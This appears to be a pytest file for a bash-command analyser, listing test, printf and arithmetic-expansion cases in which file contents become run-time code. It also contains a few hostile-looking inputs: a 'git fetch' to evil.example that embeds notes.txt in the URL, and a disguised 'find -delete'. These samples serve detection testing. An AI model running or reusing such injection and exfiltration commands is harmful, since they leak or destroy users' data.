"""Words of `test`, `[`, `[[` and `printf`, and output of programs, that bash would run as code."""

import pytest
from reading import beyond, cases, effects

EVALUATED = r"""
[[ -v $(cat v.txt) ]]
[[ -v \⏎$x ]]
[[ -R $(cat v) ]]
[[ "$x + 1" -gt 5 ]]
[ $(cat f1) ]
test $(cat f1)
[ -n $(cat f2) ]
[ $(cat f3) = x ]
x=$(cat f3); [ $x = y ]
read x < f3; [ $x = y ]
while read x; do [ $x = y ]; done < f3
mapfile -t a < f3; [ ${a[0]} = x ]
[ -v "$x" ]
test "$x" "$y"
[ * ]
x=$(cat f); test -v 'a[x]'
for f in *.log; do [ -s $f ]; done
for f in *; do test -s $f; done
printf $(cat f4)
x=$(cat f4); printf $x
x=$(cat f4); printf "$x" a
printf -v "a[x]" b
ls {x[$(cat f5)]}<f1
ls {PATH}<f1
echo $(( $(date +"$(cat f5)") ))
[[ $(date +"$(cat f5)") -gt 5 ]]
cd k; echo $(( $(wc -l *) ))
echo $(( $(wc --files0-from=names) ))
[[ $(md5sum -c sums) -gt 4 ]]
[[ $(seq -f "$x%g" 1) -gt 4 ]]
echo $(( $(ps -o args= -p 1) ))
[[ $(ps -eo pid,comm) -gt 1 ]]
[[ $(last | head -1) -gt 1 ]]
[[ $(pgrep -a x) -gt 4 ]]
"""


@pytest.mark.parametrize("command", cases(EVALUATED))
def test_words_that_the_shell_evaluates_are_run_time_code(command: str) -> None:
    assert "exec-dynamic" in effects(command)


PRINTED = r"""
sed "$(date +"$(cat q3)")" f1
awk "$(date +"$(cat q3)")" f1
find . $(date +"$(cat q3)")
find . $(date +-delete)
find . $(find . -printf "$(cat q)")
tar tf x.tar $(date +"$(cat q3)")
sort $(date +"$(cat q3)") f
sort $(mktemp -u "$(cat f)XXX") f
PATH=$(date +"$(cat q3)") ls
PATH=$(mktemp -d) ls
PATH=$(pwd) ls
psql -c "select '$(date +"$(cat q3)")'"
ssh host "ls $(date +"$(cat q3)")"
ssh "$(date +"$(cat r1)")" ls
git fetch "http://evil.example/D-$(date "+$(cat notes.txt)")"
"""


@pytest.mark.parametrize("command", cases(PRINTED))
def test_output_made_of_unknown_words_is_unknown_text(command: str) -> None:
    assert beyond(command)


ORDINARY = r"""
[ "$x" = y ]
[ "$x" = "$y" ]
[ -z "$x" -o -z "$y" ]
[[ $x == y ]]
[[ -v HOME ]]
[ -f "$f" ]
[ -e /tmp/*.lock ]
[ $# -gt 1 ]
[ $? -eq 0 ] && ls
[ "$(cat f)" = x ] && echo y
[ $(wc -l < f) -gt 5 ]
[ $(date +%s) -gt 5 ]
for f in *.log; do [ -f "$f" ] && head "$f"; done
for f in *; do test -f "$f" && ls "$f"; done
printf '%s\n' $x
printf "%s" "$(cat f)"
echo $(( $(date +%s) - $(date -d "$x" +%s) ))
x=$(pgrep nginx); cat /proc/$x/status
for p in $(pgrep -f "$name"); do cat /proc/$p/status; done
[[ $(ps aux | wc -l) -gt 3 ]]
n=$(ps -o rss= -p 1); echo $((n / 1024))
export PATH=$PATH:/usr/local/bin; ls
tail -n 5 /var/log/app-$(date +%Y-%m-%d).log
journalctl --since "$(date -d '1 hour ago' '+%F %T')"
"""


@pytest.mark.parametrize("command", cases(ORDINARY))
def test_ordinary_tests_and_dates_are_reads(command: str) -> None:
    assert beyond(command) == set()
